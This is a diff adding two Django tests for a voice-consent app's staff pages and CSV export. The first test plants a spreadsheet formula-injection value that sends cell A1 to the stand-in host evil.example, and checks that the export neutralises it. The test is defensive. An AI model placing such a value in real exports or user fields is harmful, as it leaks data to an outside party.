@@ -80,3 +80,43 @@ def test_it_exports_csv(client, staff, records):
     assert rows[0][:3] == ["consent", "voice", "account"]
     assert [r[0] for r in rows[1:]] == [records["needs_review"].public_id]
     assert rows[1][4] == "needs_review"
+
+
+def test_the_csv_keeps_formulas_typed_by_people_inert(client, staff, alice, make_voice):
+    voice = make_voice(alice)
+    ConsentRecord.objects.filter(pk=voice.consent.pk).update(
+        speaker_name='=HYPERLINK("http://evil.example/?"&A1,"Linda")'
+    )
+    client.force_login(staff)
+    response = client.get(reverse("voices:staff_consents_csv"))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][5] == '\'=HYPERLINK("http://evil.example/?"&A1,"Linda")'
+
+
+def test_every_consent_shows_its_statement_and_speaker_checks(client, staff, records):
+    heard, unheard = records["verified"], records["needs_review"]
+    ConsentRecord.objects.filter(pk=heard.pk).update(
+        code_heard=True, name_heard=True, transcript="I, Linda Johnson, consent… 549 674.",
+        transcript_sha256="ab" * 32, recogniser="faster-whisper 1.2.1, whisper-base d01c3014881c",
+    )  # fmt: skip
+    ConsentRecord.objects.filter(pk=unheard.pk).update(code_heard=False, name_heard=True)
+    client.force_login(staff)
+    listing = client.get(reverse("voices:staff_consents")).content.decode()
+    assert listing.count("Code heard") == 1 and listing.count("Code not heard") == 1
+    assert "Not checked" in listing  # the expired record was never checked
+    detail = client.get(reverse("voices:staff_consent", args=[heard.public_id])).content.decode()
+    assert "Heard: “I, Linda Johnson, consent… 549 674.”" in detail
+    assert "faster-whisper 1.2.1" in detail and "Speaker check" in detail
+    other = client.get(reverse("voices:staff_consent", args=[unheard.public_id])).content.decode()
+    assert "Code not heard" in other and "Name heard" in other
+    rows = list(
+        csv.reader(
+            io.StringIO(
+                b"".join(
+                    client.get(reverse("voices:staff_consents_csv")).streaming_content
+                ).decode()
+            )
+        )
+    )
+    checks = {r[0]: (r[8], r[9]) for r in rows[1:]}
+    assert checks[heard.public_id] == ("yes", "yes") and checks[unheard.public_id] == ("no", "yes")
